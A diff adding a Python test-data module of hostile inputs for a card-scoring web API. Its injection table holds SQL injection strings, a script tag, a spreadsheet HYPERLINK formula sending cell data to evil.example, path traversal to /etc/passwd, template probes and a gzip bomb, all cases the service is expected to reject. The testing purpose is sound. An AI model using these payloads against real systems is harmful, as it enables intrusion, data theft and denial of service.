@@ -1,0 +1,289 @@
+"""The hostile inputs, as data: one ``Case`` per line of the table, walked by
+``test_hostile_input.py``. Adding a case is adding a line.
+
+Every case aims at an operation of the OpenAPI document (``op``), with the game of the world
+(``{game}``), its hand 1 (``{number}``) and its edit token unless it says otherwise, and
+expects one status and, where it matters, one problem code. Nothing a case sends may change
+anything: each is refused whole.
+
+The bodies are derived from one valid body per operation (``VALID``, checked valid by the
+suite): a field of it is replaced (``at``), or the whole body by bytes (``raw``)."""
+
+from __future__ import annotations
+
+import copy
+import gzip
+import json
+from dataclasses import dataclass, field
+from typing import Any
+
+from http_support import gatti3_hand
+
+API = "/api/v1"
+GAME = f"{API}/games/{{game_id}}"
+HAND = f"{GAME}/hands/{{number}}"
+
+Op = tuple[str, str]  # (method, path) as in openapi/openapi.yaml
+
+HEALTH: Op = ("get", f"{API}/health")
+VARIANTS: Op = ("get", f"{API}/variants")
+VARIANT: Op = ("get", f"{API}/variants/{{variant_id}}")
+SCORE: Op = ("post", f"{API}/score")
+MELDS: Op = ("post", f"{API}/melds/suggest")
+TRICK: Op = ("post", f"{API}/adjudicate/trick")
+CREATE: Op = ("post", f"{API}/games")
+IMPORT: Op = ("post", f"{API}/games/import")
+READ_GAME: Op = ("get", GAME)
+ADD_HAND: Op = ("post", f"{GAME}/hands")
+READ_HAND: Op = ("get", HAND)
+CORRECT: Op = ("put", HAND)
+DELETE: Op = ("delete", HAND)
+HISTORY: Op = ("get", f"{GAME}/history")
+SHEET: Op = ("get", f"{GAME}/sheet.pdf")
+JSON_EXPORT: Op = ("get", f"{GAME}.json")
+CSV_EXPORT: Op = ("get", f"{GAME}.csv")
+
+#: The methods that change a hand, sent with ``If-Match``.
+WRITE_METHODS = {"PUT", "DELETE"}
+#: A path's parameters as the world fills them.
+DEFAULTS = {"game_id": "{game}", "number": "1", "variant_id": "gatti-3"}
+
+
+@dataclass(frozen=True)
+class Case:
+    op: Op
+    name: str
+    status: int
+    code: str | None = None
+    path: str | None = None  # the path sent, if not the operation's with the defaults
+    method: str | None = None  # the method sent, if not the operation's
+    at: tuple[str | int, ...] | None = None  # where in the valid body ``value`` goes
+    value: Any = None
+    body: Any = None  # the whole body, as JSON
+    raw: bytes | None = None  # the whole body, as bytes
+    content_type: str | None = "application/json"
+    headers: dict[str, str] = field(default_factory=dict)
+    if_match: str | None = "*"  # sent with a PUT or a DELETE: any version of the hand
+
+
+# -- valid bodies -------------------------------------------------------------------------------
+
+#: One valid body per operation that takes one. ``{import}`` is the world's own export.
+VALID: dict[Op, Any] = {
+    SCORE: {"variant": "gatti-3", "hand": gatti3_hand(0)},
+    MELDS: {"variant": "gatti-3", "cards": ["JD", "CD", "QD", "KD", "KH", "KS", "2C"]},
+    TRICK: {"variant": "gatti-3", "leader": 0, "cards": ["KH", "3S", "T5"],
+            "hands": {"1": ["3S", "4H"]}},
+    CREATE: {"variant": "gatti-3", "players": ["Anna", "Bruno", "Carla"], "first_dealer": 0},
+    ADD_HAND: gatti3_hand(2),
+    CORRECT: gatti3_hand(0, counting_to=1),
+    IMPORT: "{import}",
+}
+#: Where each body keeps a whole number, and a short identifier-like text.
+NUMBER_AT: dict[Op, tuple[str | int, ...]] = {
+    SCORE: ("hand", "dealer"), MELDS: ("cards",), TRICK: ("leader",), CREATE: ("first_dealer",),
+    ADD_HAND: ("dealer",), CORRECT: ("dealer",), IMPORT: ("format_version",),
+}
+TEXT_AT: dict[Op, tuple[str | int, ...]] = {
+    SCORE: ("variant",), MELDS: ("cards", 0), TRICK: ("cards", 0), CREATE: ("variant",),
+    ADD_HAND: ("discard", 0), CORRECT: ("discard", 0), IMPORT: ("game", "variant"),
+}
+#: What a body over its size limit is: 1 MiB, an import's 16 MiB.
+LIMIT = {op: 1024 * 1024 for op in VALID} | {IMPORT: 16 * 1024 * 1024}
+
+
+def put(body: Any, at: tuple[str | int, ...], value: Any) -> Any:
+    body = copy.deepcopy(body)
+    target = body
+    for key in at[:-1]:
+        target = target[key]
+    target[at[-1]] = value
+    return body
+
+
+# -- the table ----------------------------------------------------------------------------------
+
+INJECTIONS = {
+    "SQL": "x'); DROP TABLE games; --",
+    "SQL tautology": "' OR '1'='1",
+    "HTML": "<script>alert(1)</script>",
+    "formula": '=HYPERLINK("http://evil.example/?"&A1,"x")',
+    "path": "../../../../etc/passwd",
+    "template": "{{7*7}}${7*7}",
+}
+ODD_TEXT = {
+    "NUL": "gatti-3\u0000",
+    "RTL override": "\u202egatti-3",
+    "combining accent": "gatti-3\u0301",
+    "zero-width joiner": "gatti\u200d-3",
+    "10,000 characters": "x" * 10_000,
+    "empty": "",
+}
+#: Malformed JSON, in a body's place: where it breaks, and how.
+MALFORMED = {
+    "lone surrogate in a value": b'{"variant": "gatti-3\\ud800"}',
+    "lone low surrogate": b'{"variant": "\\udc00"}',
+    "lone surrogate in a key": b'{"\\ud800": 1}',
+    "NaN": b'{"dealer": NaN}',
+    "Infinity": b'{"dealer": -Infinity}',
+    "a 5,000-digit number": b'{"dealer": ' + b"9" * 5000 + b"}",
+    "nesting 100,000 deep": b"[" * 100_000 + b"]" * 100_000,
+    "bytes that are no UTF-8": b'{"variant": "\xff\xfe"}',
+    "a byte order mark": b'\xef\xbb\xbf{"variant": "gatti-3"}',
+    "trailing garbage": b'{"variant": "gatti-3"} x',
+    "two values": b'{"variant": "gatti-3"}{"variant": "gatti-3"}',
+    "cut short": b'{"variant": "gatti-3", "pla',
+    "single quotes": b"{'variant': 'gatti-3'}",
+}
+
+
+def body_cases(op: Op) -> list[Case]:
+    """What every operation that takes a body is sent: wrong shapes and types, missing and
+    unknown fields, huge and negative numbers, odd and injected text where an identifier
+    goes, malformed JSON, too much of it, and the wrong media type or encoding."""
+    number, text_at = NUMBER_AT[op], TEXT_AT[op]
+    cases = [
+        Case(op, "the body is a list", 422, body=[]),
+        Case(op, "the body is a string", 422, body="gatti-3"),
+        Case(op, "the body is null", 422, raw=b"null"),
+        Case(op, "the body is a number", 422, raw=b"7"),
+        Case(op, "the body is an empty object", 422, "invalid_request", body={}),
+        Case(op, "the body is empty", 422, raw=b""),
+        Case(op, "an unknown field", 422, "invalid_request", at=("zzz_unknown",), value=1),
+        Case(op, "an unknown field 200 deep", 422, "invalid_request", at=("zzz_unknown",),
+             value=json.loads("[" * 200 + "]" * 200)),
+        Case(op, "a number as text", 422, at=number, value="1"),
+        Case(op, "a number as a fraction", 422, at=number, value=1.5),
+        Case(op, "a number as a boolean", 422, at=number, value=True),
+        Case(op, "a number as null", 422, at=number, value=None),
+        Case(op, "a huge number", 422, at=number, value=10**30),
+        Case(op, "a negative number", 422, at=number, value=-1),
+        Case(op, "text as a number", 422, at=text_at, value=7),
+        Case(op, "text as an object", 422, at=text_at, value={"$ne": None}),
+        Case(op, "text as a list", 422, at=text_at, value=["gatti-3"]),
+    ]
+    cases += [Case(op, f"{name} injected for an identifier", 422, at=text_at, value=value)
+              for name, value in INJECTIONS.items()]
+    cases += [Case(op, f"{name} text for an identifier", 422, at=text_at, value=value)
+              for name, value in ODD_TEXT.items()]
+    cases += [Case(op, f"malformed JSON: {name}", 400, "malformed_json", raw=raw)
+              for name, raw in MALFORMED.items()]
+    cases += [
+        Case(op, "a body over the limit", 413, "body_too_large",
+             raw=b" " * (LIMIT[op] + 1)),
+        Case(op, "plain text", 415, raw=b'{"variant": "gatti-3"}', content_type="text/plain"),
+        Case(op, "a form", 415, raw=b"variant=gatti-3",
+             content_type="application/x-www-form-urlencoded"),
+        Case(op, "no media type", 415, raw=b'{"variant": "gatti-3"}', content_type=None),
+        Case(op, "XML", 415, raw=b'<variant>gatti-3</variant>', content_type="application/xml"),
+        Case(op, "an encoding not taken", 415, "unsupported_content_encoding",
+             raw=b'{"variant": "gatti-3"}', headers={"Content-Encoding": "br"}),
+    ]
+    if op == IMPORT:
+        cases.append(Case(op, "gzip that is not gzip", 400, "malformed_request",
+                          raw=b'{"variant": "gatti-3"}', headers={"Content-Encoding": "gzip"}))
+        cases.append(Case(op, "a gzip bomb", 413, "body_too_large",
+                          raw=gzip.compress(b" " * (LIMIT[op] + 1)),
+                          headers={"Content-Encoding": "gzip"}))
+    else:
+        cases.append(Case(op, "a gzip body", 415, "unsupported_content_encoding",
+                          raw=gzip.compress(json.dumps(VALID[op]).encode()),
+                          headers={"Content-Encoding": "gzip"}))
+    return cases
+
+
+ODD_GAME_IDS = {
+    "a game that is not there": ("zzzzzzzzzz", 404),
+    "33 characters": ("a" * 33, 404),
+    "a thousand characters": ("a" * 1000, 404),
+    "SQL": ("%27%20OR%20%271%27%3D%271", 404),
+    "a path": ("..%2F..%2Fetc%2Fpasswd", 404),
+    "NUL": ("abc%00", 404),
+    "RTL override": ("%E2%80%AEabc", 404),
+    "an emoji": ("%F0%9F%83%8F", 404),
+    "a lone surrogate": ("%ED%A0%80", 400),
+    "bytes that are no UTF-8": ("%FF%FE", 400),
+}
+ODD_NUMBERS = {
+    "0": ("0", 404), "-1": ("-1", 404), "1001": ("1001", 404),
+    "a 25-digit number": ("9" * 25, 404), "a fraction": ("1.0", 404), "a word": ("one", 404),
+    "an exponent": ("1e0", 404), "a space": ("%201", 404), "a NUL": ("1%00", 404),
+    "a plus": ("+1", 404), "a lone surrogate": ("%ED%A0%80", 400),
+}
+
+
+def path_cases(op: Op) -> list[Case]:
+    """Odd game ids and hand numbers in the path of an operation on a game."""
+    body = VALID.get(op)
+    cases = [Case(op, f"game id: {name}", status, path=_path(op, game_id=value), body=body)
+             for name, (value, status) in ODD_GAME_IDS.items()]
+    if "{number}" in op[1]:
+        cases += [Case(op, f"hand number: {name}", status, path=_path(op, number=value),
+                       body=body)
+                  for name, (value, status) in ODD_NUMBERS.items()]
+    return cases
+
+
+def _path(op: Op, **values: str) -> str:
+    return op[1].format(**{**DEFAULTS, **values})
+
+
+#: Methods no path takes: every path answers 405 to one it does not take.
+WRONG_METHODS: dict[Op, list[str]] = {
+    HEALTH: ["POST", "DELETE"], VARIANTS: ["PUT"], VARIANT: ["POST"], SCORE: ["GET", "PUT"],
+    MELDS: ["GET"], TRICK: ["DELETE"], CREATE: ["PUT", "DELETE"], IMPORT: ["GET", "PUT"],
+    READ_GAME: ["POST", "PUT", "DELETE", "PATCH"], ADD_HAND: ["GET", "PATCH"],
+    READ_HAND: ["POST", "PATCH"], HISTORY: ["POST", "DELETE"], SHEET: ["POST", "PUT"],
+    JSON_EXPORT: ["POST", "PUT"], CSV_EXPORT: ["DELETE"],
+}
+
+CASES: list[Case] = [
+    *(case for op in VALID for case in body_cases(op)),
+    *(case for op in (READ_GAME, ADD_HAND, READ_HAND, CORRECT, DELETE, HISTORY, SHEET,
+                      JSON_EXPORT, CSV_EXPORT)
+      for case in path_cases(op)),
+    *(Case(op, f"method {method}", 405, method=method, raw=b"{}")
+      for op, methods in WRONG_METHODS.items() for method in methods),
+    # The variant in the path: only the variants' own ids.
+    *(Case(VARIANT, f"variant id: {name}", 404, path=_path(VARIANT, variant_id=value))
+      for name, value in {"unknown": "briscola", "SQL": "gatti-3%27%20OR%201%3D1",
+                          "HTML": "%3Cscript%3E", "long": "g" * 500}.items()),
+    Case(VARIANT, "variant id: a lone surrogate", 400, "malformed_request",
+         path=_path(VARIANT, variant_id="%ED%A0%80")),
+    # The query: the sheet's two parameters and nothing else; text that is no text anywhere.
+    Case(SHEET, "query: an unknown language", 422, path=_path(SHEET) + "?lang=xx"),
+    Case(SHEET, "query: detail not a boolean", 422, path=_path(SHEET) + "?detail=maybe"),
+    Case(SHEET, "query: HTML for a language", 422,
+         path=_path(SHEET) + "?lang=%3Cscript%3E"),
+    Case(SHEET, "query: a lone surrogate", 400, "malformed_request",
+         path=_path(SHEET) + "?lang=%ED%A0%80"),
+    Case(HEALTH, "query: bytes that are no UTF-8", 400, "malformed_request",
+         path=_path(HEALTH) + "?x=%FF"),
+    Case(VARIANTS, "query: a lone surrogate", 400, "malformed_request",
+         path=_path(VARIANTS) + "?q=%ED%A0%80"),
+    # Headers the service reads.
+    Case(CREATE, "an Idempotency-Key of 201 characters", 422, body=VALID[CREATE],
+         headers={"Idempotency-Key": "k" * 201}),
+    Case(CREATE, "an Idempotency-Key that is no UTF-8", 400, "malformed_request",
+         body=VALID[CREATE], headers={"Idempotency-Key": "\xed\xa0\x80"}),
+    Case(ADD_HAND, "an Authorization that is no UTF-8", 400, "malformed_request",
+         body=VALID[ADD_HAND], headers={"Authorization": "Bearer \xff\xfe"}),
+    Case(ADD_HAND, "an Authorization of 10,000 characters", 401, "invalid_token",
+         body=VALID[ADD_HAND], headers={"Authorization": "Bearer " + "x" * 10_000}),
+    Case(CORRECT, "a correction without If-Match", 428, body=VALID[CORRECT], if_match=None),
+    Case(CORRECT, "a correction with a made-up If-Match", 412, body=VALID[CORRECT],
+         if_match='"not-the-etag"'),
+    Case(CORRECT, "a correction with a weak If-Match", 412, body=VALID[CORRECT],
+         if_match='W/"x"'),
+    Case(CORRECT, "a correction with an If-Match that is no UTF-8", 400, "malformed_request",
+         body=VALID[CORRECT], if_match='"\xed\xa0\x80"'),
+    Case(DELETE, "a deletion of hand 1 of 2", 409, "not_last_hand"),
+    Case(DELETE, "a deletion without If-Match", 428, path=_path(DELETE, number="2"),
+         if_match=None),
+    Case(READ_GAME, "an If-None-Match that is no UTF-8", 400, "malformed_request",
+         headers={"If-None-Match": "\xed\xa0\x80"}),
+    Case(JSON_EXPORT, "an Accept-Language that is no UTF-8", 400, "malformed_request",
+         headers={"Accept-Language": "\xff"}),
+    Case(CSV_EXPORT, "a Content-Type that is no UTF-8", 400, "malformed_request",
+         headers={"Content-Type": "text/\xff"}),
+]
